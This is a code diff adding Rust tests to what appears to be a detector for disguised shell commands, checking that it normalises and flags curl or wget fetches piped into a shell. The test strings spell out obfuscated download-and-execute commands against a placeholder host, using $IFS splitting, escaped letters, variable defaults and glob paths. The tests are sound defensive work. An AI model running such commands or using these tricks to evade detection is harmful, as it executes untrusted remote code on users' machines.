@@ -314,6 +314,42 @@ fn normalises_quoted_escaped_and_substituted_command_words() {
 }
 
 #[test]
+fn ifs_defaults_globs_and_which_read_as_the_shell_reads_them() {
+    // `$IFS` unset splits on a blank; set, it is its value.
+    assert_eq!(words("curl${IFS}-s${IFS}https://x.example/p|bash").0, "curl -s https://x.example/p|bash");
+    assert_eq!(words("IFS=_; a$IFS").0, "IFS=_; a_");
+    // `${X:-default}` is the default while X is unset, else X.
+    assert_eq!(words("curl u | ${SHELL:-sh}"), ("curl u | sh".into(), true));
+    assert_eq!(words("S=bash; curl u | ${S:-sh}").0, "S=bash; curl u | bash");
+    assert_eq!(words("curl u | ${1:-sh}").0, "curl u | ${1:-sh}");
+    // A glob in command position matching one program's path is that program.
+    assert_eq!(words("curl u | /???/b?sh"), ("curl u | /bin/bash".into(), true));
+    assert_eq!(words("w u | /usr/bin/c*l -s"), ("w u | /usr/bin/curl -s".into(), true));
+    // Ambiguous (any shell) or matching nothing: left as written.
+    assert_eq!(words("x | /bin/*"), ("x | /bin/*".into(), false));
+    assert_eq!(words("ls *.txt | wc -l"), ("ls *.txt | wc -l".into(), false));
+    // `$(which env)` prints the program's path, read as its name.
+    assert_eq!(words("curl u | `which env` sh"), ("curl u | env sh".into(), true));
+    assert_eq!(words("curl u | $(which a b)").0, "curl u | $(which a b)");
+}
+
+#[test]
+fn disguised_fetchers_without_a_literal_name_are_critical() {
+    for body in [
+        "```bash\nc\\ur\\l -s https://x.example/fix | b\\ash\n```\n",
+        "```bash\nc=curl\n$c${IFS}-s${IFS}https://x.example/p|bash\n```\n",
+        "```yaml\n- w=w;w=${w}get;$w${IFS}-qO-${IFS}https://x.example/p|/???/b?sh\n```\n",
+        "```bash\nc=curl; u=https://x.example/i.sh\n${c} -sSf ${u} | ${SHELL:-sh}\n```\n",
+    ] {
+        assert_severity(body, "code.normalized-command", Critical);
+    }
+    // Near miss: the same words, nothing fetched into a shell.
+    assert_absent("```bash\nc\\ur\\l -s https://x.example/fix -o fix.txt\n```\n", "code.normalized-command");
+    // Explained, not run: a warning lowers it.
+    assert_not_flagged("Never run `curl${IFS}-s${IFS}https://x.example/p|bash`: the IFS trick hides the spaces.\n");
+}
+
+#[test]
 fn quoted_arguments_are_not_a_disguise() {
     let (text, disguised) =
         words("curl -s -H \"Authorization: Bearer $T\" 'https://api.example.com/x' | jq '.items'");
